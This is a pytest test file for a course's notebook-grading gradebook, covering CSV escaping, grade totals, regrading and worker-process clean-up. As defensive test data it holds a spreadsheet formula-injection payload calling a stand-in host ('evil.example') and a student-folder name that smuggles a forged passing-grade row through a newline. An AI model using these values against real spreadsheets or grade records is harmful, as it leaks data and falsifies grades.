"""The gradebook ``check`` keeps: rows accumulate over runs, every cell is data (never a formula), one row a line.

The unit tests work on rows; the last ones run ``python -m course.assignments check`` on tiny lessons, as a
teacher grades a term: one lesson after another, a notebook graded again, a batch graded two at a time.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import nbformat
import pytest
from nbformat import v4

from course import assignments
from course.grading.gradebook import (
    ALL_LESSONS,
    COLUMNS,
    GradebookError,
    merge,
    name_problem,
    read_cell,
    read_gradebook,
    safe_cell,
    table_text,
    totals,
    write_gradebook,
)

KERNELSPEC = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
IMPORT = "from course.exercises.lesson02 import check_linear_projection"
CHECK = "check_linear_projection(linear_projection)"
RIGHT = "def linear_projection(x, weight, bias):\n    return x @ weight.T + bias"
WRONG = "def linear_projection(x, weight, bias):\n    return x @ weight + bias"
HYPERLINK = '=HYPERLINK("evil.example?"&A2,"click")'


def row(student, lesson, exercise="linear_projection", verdict="pass", points="1", message="ok"):
    return [student, lesson, exercise, verdict, points, message]


# --------------------------------------------------------------------------------------------- cells are data
@pytest.mark.parametrize("text", [HYPERLINK, "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'quoted"])
def test_a_cell_a_spreadsheet_would_take_for_a_formula_gets_a_leading_quote_and_reads_back_as_it_was(text):
    cell = safe_cell(text)
    assert cell.startswith("'") and cell[1:2] not in ("\t", "\r")
    assert read_cell(cell) == text.replace("\t", "\\x09").replace("\r", "\\x0d")


@pytest.mark.parametrize("text", ["alice", "02_queries_keys_values", "0", "1", "", "your code raised ValueError"])
def test_plain_text_and_numbers_are_written_as_they_are(text):
    assert safe_cell(text) == text and read_cell(text) == text


def test_control_characters_in_a_message_become_visible_escapes_so_each_row_is_one_line():
    message = "line one\nmallory\t02\tx\tpass\t1\r\x1b[31mred\u2028next"
    text = table_text([COLUMNS, row("bob", "02", message=message)])
    assert len(text.splitlines()) == 2 and "\t" not in text and "\x1b" not in text
    (cell,) = [line[5] for line in csv.reader(io.StringIO(text))][1:]
    assert cell == "line one\\x0amallory\\x0902\\x09x\\x09pass\\x091\\x0d\\x1b[31mred\\u2028next"


@pytest.mark.parametrize("name", ["al\nice", "al\tice", "al\rice", "\x1b[2Jalice", "al\u2028ice", "al\u202eice"])
def test_a_name_with_a_control_character_is_refused_naming_it(name):
    problem = name_problem(name, "student folder")
    assert problem is not None and "control character" in problem and "Rename the student folder" in problem


@pytest.mark.parametrize("name", ["alice", "Zoë Müller", "李雷", HYPERLINK, "-bob"])
def test_a_printable_name_is_accepted(name):
    assert name_problem(name, "student folder") is None


# --------------------------------------------------------------------------------------------- accumulating
def test_a_regraded_notebook_replaces_all_its_rows_and_every_other_row_stays():
    old = [
        row("alice", "02", verdict="wrong", points="0"),
        row("alice", "02", "(notebook)", "error", "", "timed out in cell 7 after 600 s"),
        row("alice", "03"),
        row("bob", "02", verdict="wrong", points="0"),
    ]
    new = [row("alice", "02")]
    assert merge(old, new) == [row("alice", "02"), row("alice", "03"), row("bob", "02", verdict="wrong", points="0")]


def test_rows_are_sorted_by_student_and_lesson_and_keep_the_lessons_exercise_order():
    new = [row("bob", "03", "second"), row("bob", "03", "first"), row("alice", "09")]
    assert [r[:3] for r in merge([], new)] == [["alice", "09", "linear_projection"], *[r[:3] for r in new[:2]]]


def test_totals_per_lesson_and_over_all_lessons():
    rows = [
        row("alice", "02"),
        row("alice", "02", "cross_attention_inputs", "wrong", "0"),
        row("alice", "03", "attention_weights", "error", "0"),
        row("alice", "03", "(notebook)", "error", "", "kernel died in cell 4"),
        row("bob", "02"),
        row("bob", "02", "cross_attention_inputs", "pass", "1"),
    ]
    assert totals(rows) == [
        ["alice", "02", "1", "2", "0", "yes"],
        ["alice", "03", "0", "1", "1", "yes"],
        ["alice", ALL_LESSONS, "1", "3", "1", "2 of 2"],
        ["bob", "02", "2", "2", "0", "yes"],
        ["bob", "03", "0", "1", "0", "no"],  # released (alice handed it in), not handed in by bob: 0 of 1
        ["bob", ALL_LESSONS, "2", "3", "0", "1 of 2"],
    ]


def test_a_student_who_handed_in_one_lesson_is_not_shown_full_marks_over_all_lessons():
    """The issue's teacher: a student who handed in lesson 05 alone showed (all lessons) 2/2."""
    rows = [
        row("ann", "05", "a"),
        row("ann", "05", "b"),
        *[row("ben", lesson, exercise) for lesson in ("05", "13", "14") for exercise in ("a", "b")],
    ]
    assert [r for r in totals(rows) if r[0] == "ann"][-1] == ["ann", ALL_LESSONS, "2", "6", "0", "1 of 3"]


def test_a_notebook_stopped_before_any_exercise_counts_every_exercise_not_graded():
    rows = [row("ann", "02"), row("ann", "02", "second"), row("ben", "02", "(notebook)", "error", "", "unreadable")]
    assert [r for r in totals(rows) if r[0] == "ben"] == [
        ["ben", "02", "0", "2", "2", "yes"],
        ["ben", ALL_LESSONS, "0", "2", "2", "1 of 1"],
    ]


def test_three_runs_one_after_another_keep_every_row_and_the_files_read_back_exactly(tmp_path):
    lessons = {"02": [row(s, "02") for s in ("alice", "bob")], "03": [row("alice", "03")], "09": [row("-x", "09")]}
    for new in lessons.values():
        write_gradebook(tmp_path, new)
    everything = sorted((r for rows in lessons.values() for r in rows), key=lambda r: (r[0], r[1]))
    assert read_gradebook(tmp_path / "gradebook.csv") == everything
    table = list(csv.reader((tmp_path / "totals.csv").open()))
    assert [r[:3] for r in table] == [
        ["student", "lesson", "points"],
        ["'-x", "02", "0"],  # written as data: a spreadsheet would compute "-x" as a formula
        ["'-x", "03", "0"],
        ["'-x", "09", "1"],
        ["'-x", ALL_LESSONS, "1"],
        ["alice", "02", "1"],
        ["alice", "03", "1"],
        ["alice", "09", "0"],
        ["alice", ALL_LESSONS, "2"],
        ["bob", "02", "1"],
        ["bob", "03", "0"],
        ["bob", "09", "0"],
        ["bob", ALL_LESSONS, "1"],
    ]


def test_a_gradebook_check_did_not_write_is_refused_naming_file_and_line(tmp_path):
    book = tmp_path / "gradebook.csv"
    book.write_text("name,score\nalice,3\n")
    with pytest.raises(GradebookError, match="expected the header student,lesson"):
        read_gradebook(book)
    book.write_text(",".join(COLUMNS) + "\nalice,02,linear_projection,pass,1,ok\nalice,03,x,pass,7,ok\n")
    with pytest.raises(GradebookError, match=r"line 3: points '7'"):
        read_gradebook(book)
    with pytest.raises(GradebookError):
        write_gradebook(tmp_path, [row("bob", "02")])
    assert book.read_text().endswith("alice,03,x,pass,7,ok\n")  # left exactly as it was


def test_an_interrupted_write_leaves_the_old_gradebook_whole(tmp_path, monkeypatch):
    write_gradebook(tmp_path, [row("alice", "02")])
    before = (tmp_path / "gradebook.csv").read_bytes()

    def disk_full(source, target):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", disk_full)
    with pytest.raises(OSError):
        write_gradebook(tmp_path, [row("bob", "03")])
    assert (tmp_path / "gradebook.csv").read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["gradebook.csv", "totals.csv"]  # no temporary file left


# --------------------------------------------------------------------------------------------- the command
def lesson(folder: Path, name: str) -> Path:
    """A solution notebook named ``name`` with lesson 02's projection exercise and its check."""
    answer = "def linear_projection(x, weight, bias):\n    # BEGIN SOLUTION\n    return x @ weight.T + bias\n"
    answer += "    # END SOLUTION"
    cells = [v4.new_code_cell(IMPORT), v4.new_code_cell(answer), v4.new_code_cell(CHECK)]
    path = folder / f"{name}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(v4.new_notebook(cells=cells, metadata=KERNELSPEC), path)
    return path


def submission(folder: Path, name: str, answer: str) -> Path:
    path = folder / f"{name}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    cells = [v4.new_code_cell(IMPORT), v4.new_code_cell(answer), v4.new_code_cell(CHECK)]
    nbformat.write(v4.new_notebook(cells=cells, metadata=KERNELSPEC), path)
    return path


THREADS = (
    "import os\n\n\n"
    "def linear_projection(x, weight, bias):\n"
    "    raise ValueError('threads=' + os.environ.get('OMP_NUM_THREADS', 'unset') + ','"
    " + os.environ.get('MKL_NUM_THREADS', 'unset'))"
)


# The tests that grade real notebooks start kernels and worker processes: `make test` runs them, `make unit` not
# (tests/conftest.py's `integration` marker; the rest of this file is plain unit tests).
starts_processes = pytest.mark.integration


@pytest.fixture(scope="module")
def term(tmp_path_factory):
    """Three lessons graded one after another (the last two at once, two jobs), then one notebook again.

    Two answers report the thread settings their kernel saw (the teacher's are 3): one job leaves them, two
    jobs give each notebook one thread.
    """
    root = tmp_path_factory.mktemp("term")
    names = ["02_tiny", "03_tiny", "09_tiny"]
    lessons = lesson(root / "notebooks", names[0]).parent
    for name in names[1:]:
        lesson(lessons, name)
    subs, grades = root / "submissions", root / "grades"
    common = ["check", "--notebooks", str(lessons), "--out", str(grades)]
    runs = [
        ("1", [("alice", names[0], THREADS)]),
        ("2", [("alice", names[1], RIGHT), (HYPERLINK, names[2], THREADS)]),
        ("2", [("alice", names[0], RIGHT)]),  # alice fixed lesson 02: graded again
    ]
    books = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("OMP_NUM_THREADS", "3")
        patch.setenv("MKL_NUM_THREADS", "3")
        for jobs, notebooks in runs:
            paths = [str(submission(subs / student, name, answer)) for student, name, answer in notebooks]
            status = assignments.main([*common, "--jobs", jobs, *paths])
            book = grades / "gradebook.csv"
            books.append((status, read_gradebook(book), book.read_text()))
    return {"root": root, "grades": grades, "books": books, "names": names, "common": common, "subs": subs}


@starts_processes
def test_grading_three_lessons_one_after_another_keeps_every_row(term):
    (first, book1, _), (second, book2, _), _ = term["books"]
    assert (first, second) == (0, 0)
    assert [r[:4] for r in book1] == [["alice", "02_tiny", "linear_projection", "wrong"]]
    assert [r[:4] for r in book2] == [
        [HYPERLINK, "09_tiny", "linear_projection", "wrong"],
        ["alice", "02_tiny", "linear_projection", "wrong"],  # lesson 02 is still there
        ["alice", "03_tiny", "linear_projection", "pass"],
    ]


@starts_processes
def test_two_jobs_give_each_notebook_one_thread_and_one_job_leaves_the_teachers_setting(term):
    (_, book1, _), (_, book2, _), _ = term["books"]
    assert "threads=3,3" in book1[0][5], book1
    assert "threads=1,1" in book2[0][5], book2


@starts_processes
def test_grading_a_notebook_again_replaces_its_row_and_keeps_the_others(term):
    *_, (status, book, _) = term["books"]
    assert status == 0
    assert [r[:4] for r in book] == [
        [HYPERLINK, "09_tiny", "linear_projection", "wrong"],
        ["alice", "02_tiny", "linear_projection", "pass"],
        ["alice", "03_tiny", "linear_projection", "pass"],
    ]
    totals_rows = list(csv.reader((term["grades"] / "totals.csv").open()))
    assert ["alice", ALL_LESSONS, "2", "3", "0", "2 of 3"] in totals_rows  # 09_tiny was released: 0 of 1
    assert [HYPERLINK, ALL_LESSONS, "0", "3", "0", "1 of 3"] in [[read_cell(c) for c in r] for r in totals_rows]


@starts_processes
def test_a_student_folder_named_like_a_formula_is_data_in_both_files(term):
    for name in ("gradebook.csv", "totals.csv"):
        cells = [line[0] for line in csv.reader((term["grades"] / name).open())]
        assert "'" + HYPERLINK in cells and HYPERLINK not in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), name


@starts_processes
def test_a_name_with_a_newline_is_refused_before_anything_runs(term, capsys):
    before = (term["grades"] / "gradebook.csv").read_bytes()
    forged = submission(term["subs"] / "eve\nmallory,02_tiny,linear_projection,pass,1,x", term["names"][0], WRONG)
    status = assignments.main([*term["common"], str(forged)])
    err = capsys.readouterr().err
    assert status == 2 and "control character" in err and "nothing was graded" in err
    assert (term["grades"] / "gradebook.csv").read_bytes() == before


@starts_processes
def test_the_same_notebook_twice_in_one_batch_is_refused(term, capsys):
    path = term["subs"] / "alice" / f"{term['names'][0]}.ipynb"
    nested = term["subs"] / "submitted" / "alice" / term["names"][0] / path.name  # nbgrader's layout, same student
    nested.parent.mkdir(parents=True)
    nested.write_bytes(path.read_bytes())
    assert assignments.main([*term["common"], str(path), str(nested)]) == 2
    assert "given twice" in capsys.readouterr().err


def test_a_foreign_gradebook_is_refused_before_anything_runs(tmp_path, capsys):
    (tmp_path / "grades").mkdir()
    (tmp_path / "grades" / "gradebook.csv").write_text("name,score\n")
    status = assignments.main(["check", "--out", str(tmp_path / "grades"), str(tmp_path / "a" / "02_x.ipynb")])
    assert status == 2 and "expected the header" in capsys.readouterr().err


def test_jobs_must_be_a_positive_whole_number(capsys):
    with pytest.raises(SystemExit) as exit_:
        assignments.main(["check", "--jobs", "0", "x.ipynb"])
    assert exit_.value.code == 2 and "argument --jobs: expected at least 1 job" in capsys.readouterr().err


def test_the_default_number_of_jobs_is_the_cores_this_process_may_use(monkeypatch, capsys):
    from course.grading import workers

    monkeypatch.setattr(workers.os, "sched_getaffinity", lambda pid: {0, 2, 5}, raising=False)  # taskset -c 0,2,5
    assert workers.usable_cores() == 3
    with pytest.raises(SystemExit):
        assignments.main(["check", "--help"])
    assert "may use, 3)" in " ".join(capsys.readouterr().out.split())


def die(path):
    """A grading worker killed mid-notebook (the out-of-memory killer, a stray kill -9)."""
    os._exit(9)


@starts_processes
def test_a_worker_that_dies_costs_its_items_a_worker_died_each_and_the_rest_go_on():
    from course.grading.workers import ONE_THREAD, WorkerDied, in_workers

    outcomes = list(in_workers(die, ["a", "b"], jobs=2, environment=ONE_THREAD))
    assert [type(outcome) for outcome in outcomes] == [WorkerDied, WorkerDied]
    assert list(in_workers(len, ["a", "bb", "ccc"], jobs=2, environment=ONE_THREAD)) == [1, 2, 3]  # in order


def test_a_notebook_whose_worker_died_gets_an_error_row_naming_it():
    from course.grading.checker import _worker_died
    from course.grading.workers import WorkerDied

    report = _worker_died(Path("submissions/ann/02_x.ipynb"), WorkerDied("its worker process died (killed)"))
    assert [(r.student, r.lesson, r.exercise, r.status) for r in report.results] == [
        ("ann", "02_x", "(notebook)", "error")
    ]
    assert "worker process died" in report.results[0].message


INTERRUPTED_BATCH = '''
import os, signal, subprocess, sys, time
from pathlib import Path
from course.grading.workers import ONE_THREAD, in_workers

FOLDER = Path(sys.argv[1])


def notebook(name):
    """Stands for one notebook's grading: a process in a session of its own, killed by the clean-up."""
    child = subprocess.Popen(["sleep", "300"], start_new_session=True)
    (FOLDER / f"{name}.worker").write_text(str(os.getpid()))
    (FOLDER / f"{name}.pid").write_text(str(child.pid))
    try:
        time.sleep(300)
    finally:
        child.kill()
        child.wait()
        (FOLDER / f"{name}.cleaned").write_text("")


if __name__ == "__main__":
    try:
        list(in_workers(notebook, ["a", "b", "c", "d"], 2, ONE_THREAD))
    except KeyboardInterrupt:
        sys.exit(130)
'''


def test_ctrl_c_stops_a_parallel_batch_and_each_busy_worker_cleans_up_first(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    script = tmp_path / "batch.py"
    script.write_text(INTERRUPTED_BATCH)
    process = subprocess.Popen(
        [sys.executable, str(script), str(tmp_path)],
        start_new_session=True,  # a process group of its own, as a terminal gives a command
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    deadline = time.monotonic() + 300
    while len(list(tmp_path.glob("*.pid"))) < 2 and time.monotonic() < deadline:
        time.sleep(0.2)
    assert len(list(tmp_path.glob("*.pid"))) == 2, "two workers should each be grading"
    os.killpg(process.pid, signal.SIGINT)  # what Ctrl-C does
    assert process.wait(timeout=120) == 130
    busy = sorted(p.stem for p in tmp_path.glob("*.pid"))
    assert busy == sorted(p.stem for p in tmp_path.glob("*.cleaned")), "a busy worker exited without its clean-up"
    for pid_file in tmp_path.glob("*.pid"):
        with pytest.raises(ProcessLookupError):
            os.kill(int(pid_file.read_text()), 0)  # the "notebook's" process is gone


def _alive(pid: int) -> bool:
    """Whether ``pid`` runs (a zombie waiting for its parent to read it does not)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


def _start_batch(tmp_path):
    import subprocess
    import sys
    import time

    script = tmp_path / "batch.py"
    script.write_text(INTERRUPTED_BATCH)
    process = subprocess.Popen([sys.executable, str(script), str(tmp_path)], start_new_session=True)
    deadline = time.monotonic() + 300
    while len(list(tmp_path.glob("*.pid"))) < 2 and time.monotonic() < deadline:
        time.sleep(0.2)
    assert len(list(tmp_path.glob("*.pid"))) == 2, "two workers should each be grading"
    return process


@starts_processes
def test_a_batch_killed_with_sigkill_takes_its_workers_and_their_processes_with_it(tmp_path):
    """``kill -9`` of the checker cleans up nothing itself: each worker is told by Linux, and runs its clean-up."""
    import signal
    import time

    process = _start_batch(tmp_path)
    workers = [int(path.read_text()) for path in tmp_path.glob("*.worker")]
    children = [int(path.read_text()) for path in tmp_path.glob("*.pid")]
    assert len(set(workers)) == 2 and all(map(_alive, workers + children))
    process.kill()
    process.wait()
    deadline = time.monotonic() + 5  # "a few seconds": the clean-up of one notebook
    while any(map(_alive, workers + children)) and time.monotonic() < deadline:
        time.sleep(0.1)
    survivors = [pid for pid in workers + children if _alive(pid)]
    for pid in survivors:
        os.kill(pid, signal.SIGKILL)
    assert survivors == [], "a worker or its notebook's process outlived the checker by more than 5 s"
    busy = sorted(p.stem for p in tmp_path.glob("*.pid"))
    assert busy == sorted(p.stem for p in tmp_path.glob("*.cleaned")), "a busy worker exited without its clean-up"


def test_sigint_stops_the_batch_even_where_it_came_in_ignored_and_an_ignored_sighup_stays_ignored():
    """A script's ``check … &`` starts with SIGINT ignored: ``kill -INT`` must still stop it. ``nohup``'s ignored
    SIGHUP stays ignored (the batch is meant to outlive its terminal)."""
    import signal
    import time

    from course.grading.checker import _signals_stop_the_batch

    before = {number: signal.getsignal(number) for number in (signal.SIGINT, signal.SIGHUP)}
    try:
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        with pytest.raises(KeyboardInterrupt), _signals_stop_the_batch():
            assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(30)  # the handler interrupts it at once
        assert signal.getsignal(signal.SIGINT) is signal.SIG_IGN  # the caller's setting is back afterwards
    finally:
        for number, handler in before.items():
            signal.signal(number, handler)


@starts_processes
def test_a_process_whose_parent_died_before_it_asked_gets_its_death_signal_at_once():
    import signal
    import subprocess
    import sys

    code = "import os, signal, time\nfrom course.grading.workers import die_with_parent\n"
    code += "assert die_with_parent(signal.SIGTERM, os.getppid() + 1)\ntime.sleep(60)"  # not its parent: gone already
    assert subprocess.run([sys.executable, "-c", code], timeout=60).returncode == -signal.SIGTERM
